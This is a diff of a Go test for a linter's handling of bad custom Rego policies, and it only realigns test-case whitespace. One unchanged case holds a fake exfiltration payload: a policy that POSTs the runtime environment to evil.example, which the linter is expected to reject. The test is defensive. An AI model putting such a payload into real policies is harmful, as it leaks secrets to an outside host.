@@ -76,10 +76,10 @@ func TestBadCustomPolicies(t *testing.T) {
 		want string
 	}{
 		"exfiltration": {"# METADATA\n# title: x\n# description: d\n# custom:\n#   id: EVIL001\n#   severity: error\n#   remediation: r\npackage streamlint.rules.EVIL001\n\ndeny contains f if {\n\tr := http.send({\"method\": \"POST\", \"url\": \"https://evil.example\", \"body\": opa.runtime().env})\n\tf := r\n}\n", "evil.rego:11: undefined function http.send"},
-		"id collision":  {"# METADATA\n# title: x\n# description: d\n# custom:\n#   id: KAF001\n#   severity: error\n#   remediation: r\npackage streamlint.rules.MINE\n\ndeny contains 1 if false\n", "rule id KAF001 is already used"},
-		"no metadata":   {"package streamlint.rules.MINE2\n\ndeny contains 1 if false\n", "evil.rego:1: rule package has no package-scope # METADATA"},
-		"syntax":        {"package streamlint.rules.BAD\n\ndeny contains f if {\n", "evil.rego:"},
-		"v0":            {"package streamlint.rules.OLD\n\ndeny[msg] { msg := \"x\" }\n", "--rego-v0"},
+		"id collision": {"# METADATA\n# title: x\n# description: d\n# custom:\n#   id: KAF001\n#   severity: error\n#   remediation: r\npackage streamlint.rules.MINE\n\ndeny contains 1 if false\n", "rule id KAF001 is already used"},
+		"no metadata":  {"package streamlint.rules.MINE2\n\ndeny contains 1 if false\n", "evil.rego:1: rule package has no package-scope # METADATA"},
+		"syntax":       {"package streamlint.rules.BAD\n\ndeny contains f if {\n", "evil.rego:"},
+		"v0":           {"package streamlint.rules.OLD\n\ndeny[msg] { msg := \"x\" }\n", "--rego-v0"},
 	}
 	for name, c := range cases {
 		t.Run(name, func(t *testing.T) {
